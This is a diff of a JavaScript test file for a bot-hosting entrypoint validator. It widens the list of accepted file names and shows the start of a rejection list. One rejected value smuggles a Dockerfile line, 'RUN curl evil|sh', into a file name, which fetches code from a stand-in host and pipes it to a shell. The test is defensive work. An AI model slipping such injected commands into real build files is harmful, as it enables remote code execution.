@@ -93,9 +93,12 @@ describe('the file names of one bot', () => {
 });
 
 describe('an entrypoint', () => {
-  test.each(['bot.py', 'src/main.mjs', 'бот.py', 'a-b_c.1.cjs', 'index.js'])('%j is accepted', (entrypoint) => {
-    expect(checkEntrypoint(entrypoint)).toEqual({ ok: true, value: entrypoint });
-  });
+  test.each(['bot.py', 'src/main.mjs', 'бот.py', 'a-b_c.1.cjs', 'index.js', 'src/bot.ts', 'bot.mts'])(
+    '%j is accepted',
+    (entrypoint) => {
+      expect(checkEntrypoint(entrypoint)).toEqual({ ok: true, value: entrypoint });
+    },
+  );
 
   test.each([
     ['bot.py"]\nRUN curl evil|sh\nCMD ["x', 'control_character'],
